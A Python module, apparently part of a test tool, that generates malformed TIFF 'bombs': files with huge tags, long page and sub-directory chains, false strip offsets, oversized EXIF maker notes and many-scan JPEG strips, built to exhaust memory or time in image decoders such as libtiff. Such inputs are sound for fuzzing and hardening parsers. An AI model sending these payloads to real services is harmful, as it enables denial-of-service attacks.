import zlib

from bombs.collection import Zeros, add_table, bombs_of, little
from bombs.directory import THIRD, directory, directory_bytes, many_thirds
from bombs.jpeg import many_scans

PIXELS = bytes(range(64))
START = 8 + len(PIXELS)  # of the directory

bomb = bombs_of("tiff")


def picture(side=8, *more, compression=1, packed=64):
    """The entries of a grey picture, whose only strip is behind the header; `more` replace those of the same tags."""
    entries = [
        (256, 4, 1, little(side)),
        (257, 4, 1, little(side)),
        (258, 3, 1, little(8)),
        (259, 3, 1, little(compression)),
        (262, 3, 1, little(1)),
        (273, 4, 1, little(8)),
        (277, 3, 1, little(1)),
        (278, 4, 1, little(side)),
        (279, 4, 1, little(packed)),
    ]
    replaced = {entry[0] for entry in more}
    return [*(entry for entry in entries if entry[0] not in replaced), *more]


def behind(entries):
    """The place behind a directory of so many entries."""
    return START + directory_bytes(entries)


def tiff_of(entries, *parts):
    return [b"II*\0" + little(START), PIXELS, directory(entries), *parts]


def long_tag(size, tag, kind):
    return tiff_of(picture(8, (tag, kind, size, little(behind(10)))), Zeros(size))


add_table(
    bomb,
    long_tag,
    {
        "unknown_tag": (60_000, 7),
        "layers": (37_724, 7),
        "resources": (34_377, 7),
        "profile": (34_675, 7),
        "xmp": (700, 1),
        "description": (270, 2),
    },
)


@bomb
def pages(size):
    step = directory_bytes(9)
    count = max(1, size // step)
    following = [START + step * page for page in range(1, count)]
    return [b"II*\0" + little(START), PIXELS, b"".join(directory(picture(), place) for place in [*following, 0])]


@bomb
def below(size):
    """Directories of one tag, many below each of a chain."""
    step, chained = directory_bytes(1), directory_bytes(10)
    count = max(1, size // (64 * step))
    below = 8 + count * chained
    chain = [
        directory(
            picture(8, (330, 4, 64, little(below + 256 * index))),
            (index + 1 < count) * (8 + chained * (index + 1)),
        )
        for index in range(count)
    ]
    places = [little(below + 256 * count + step * index) for index in range(64 * count)]
    return [b"II*\0" + little(8), *chain, *places, directory([(254, 4, 1, little(1))]) * (64 * count)]


@bomb
def strips(size):
    """Offsets of strips that there are not."""
    return tiff_of(picture(8, (273, 4, size // 4, little(behind(9)))), Zeros(size))


@bomb
def numbers(size):
    """The largest that tags may be, of fractions."""
    size = min(size, 2**20)
    return tiff_of(picture(8, *many_thirds(size, behind(12))), THIRD * (size // 8))


@bomb
def maker_note(size):
    """In the directory of its EXIF."""
    place = behind(10)
    exif = directory([(37_500, 7, size, little(place + directory_bytes(1)))])
    return tiff_of(picture(8, (34_665, 4, 1, little(place))), exif, Zeros(size))


@bomb
def entries_of_one_value(size):
    """A directory of many tags that all have the same value."""
    half = size // 2
    more = [(50_000 + index, 7, half // 2000, little(behind(9 + 2000))) for index in range(2000)]
    return tiff_of(picture(8, *more), Zeros(size))


@bomb
def compressed_unknown_tag(size):
    """Of pixels that libtiff decodes, which reads the tags, too."""
    packed = zlib.compress(PIXELS)
    place = 8 + len(packed)
    unknown = (60_000, 7, size, little(place + directory_bytes(10)))
    entries = picture(8, unknown, compression=8, packed=len(packed))
    return [b"II*\0" + little(place), packed, directory(entries), Zeros(size)]


@bomb
def scans(size):
    """A JPEG of many scans in a strip."""
    data = b"".join(many_scans(size))
    place = 8 + len(data) + len(data) % 2
    entries = picture(2000, compression=7, packed=len(data))
    return [b"II*\0" + little(place), data.ljust(place - 8, b"\0"), directory(entries)]
